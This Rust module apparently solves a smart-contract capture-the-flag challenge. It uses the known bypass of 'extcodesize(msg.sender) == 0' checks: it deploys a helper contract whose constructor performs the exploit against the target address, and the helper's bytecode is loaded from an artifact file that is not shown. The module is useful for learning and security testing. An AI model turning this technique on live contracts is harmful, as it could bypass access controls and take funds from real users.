//! `extcodesize(msg.sender) == 0` does not prove the caller is an EOA: a
//! contract has no code while its constructor runs. The helper's constructor
//! does the whole exploit, so the intent is the deployment itself.

use alloy::primitives::{Address, Bytes};
use alloy::sol_types::SolValue;
use std::path::Path;

use crate::blockchain::TxIntent;
use crate::challenges::artifact::{load_bytecode, with_constructor_args};
use crate::challenges::{ChallengeContext, ChallengeResult};

pub fn exploit(ctx: &ChallengeContext<'_>, artifact: &Path) -> ChallengeResult<TxIntent> {
    let code = load_bytecode(artifact)?;
    tracing::info!(contract = %ctx.target, code_len = code.len(), "Deploying constructor helper");
    Ok(helper_deployment(&code, ctx.target))
}

fn helper_deployment(code: &Bytes, target: Address) -> TxIntent {
    TxIntent::deploy(with_constructor_args(code, &target.abi_encode()))
}
